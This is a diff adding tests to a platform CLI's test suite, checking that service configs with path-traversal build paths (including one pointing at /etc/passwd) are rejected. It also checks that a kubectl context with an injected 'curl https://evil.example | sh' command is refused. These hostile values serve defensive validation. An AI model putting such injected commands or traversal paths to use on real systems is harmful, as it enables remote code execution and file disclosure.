@@ -227,3 +227,67 @@ describe("a policy has an evaluation budget (PLT4003, never a hang)", () => {
     },
   );
 });
+
+describe("generated files and paths", () => {
+  it.each([
+    ["../../../etc", "Dockerfile", "build.context", "above the repository"],
+    ["/etc", "Dockerfile", "build.context", "it is absolute"],
+    [".", "../../../../etc/passwd", "build.dockerfile", "above the repository"],
+  ])(
+    "build context %s / dockerfile %s is PLT3025 on the field, and render writes no CI",
+    async (context, dockerfile, field, why) => {
+      await writeFiles(dir, {
+        "services/escape/platform.yaml": `apiVersion: platform/v1\nname: escape\nowner: payments\npattern: worker\nbuild:\n  context: ${context}\n  dockerfile: ${dockerfile}\n`,
+      });
+      try {
+        const run = await runCli(["validate", "--format", "json"], { cwd: dir });
+        expect(run.code).toBe(1);
+        const found = JSON.parse(run.stdout).files.flatMap(
+          (f: { diagnostics: Array<{ code: string; message: string }> }) =>
+            f.diagnostics.filter((d) => d.code === "PLT3025"),
+        );
+        expect(found).toHaveLength(1);
+        expect(found[0].message).toContain(`${field} must be a path inside the repository`);
+        expect(found[0].message).toContain(why);
+        const render = await runCli(["render", "--target", "ci"], { cwd: dir });
+        expect(render.code).toBe(1);
+        expect(render.stdout).toBe("");
+      } finally {
+        await rm(join(dir, "services/escape"), { recursive: true });
+      }
+    },
+  );
+
+  it("a context inside the repository but above the service is fine", async () => {
+    await writeFiles(dir, {
+      "services/inside/platform.yaml":
+        "apiVersion: platform/v1\nname: inside\nowner: payments\npattern: worker\nbuild:\n  context: ../..\n  dockerfile: services/inside/Dockerfile\n",
+    });
+    try {
+      const run = await runCli(["validate", "--format", "json"], { cwd: dir });
+      expect(run.stdout).not.toContain("PLT3025");
+    } finally {
+      await rm(join(dir, "services/inside"), { recursive: true });
+    }
+  });
+
+  it("a kubectl context that is a shell command is refused by the org config schema", async () => {
+    const configFile = join(dir, ".platform/config.yaml");
+    const original = await readFile(configFile, "utf8");
+    const hostile = original.replace(
+      "context: staging-eu-west-1",
+      'context: "prod; curl https://evil.example | sh"',
+    );
+    expect(hostile).not.toBe(original);
+    await writeFiles(dir, { ".platform/config.yaml": hostile });
+    try {
+      const run = await runCli(["validate"], { cwd: dir });
+      expect(run.code).toBe(1);
+      expect(run.stdout + run.stderr).toMatch(/\.platform\/config\.yaml:\d+:\d+ +error +PLT2009/);
+      const render = await runCli(["render", "--target", "ci"], { cwd: dir });
+      expect(render.stdout).not.toContain("curl");
+    } finally {
+      await writeFiles(dir, { ".platform/config.yaml": original });
+    }
+  });
+});
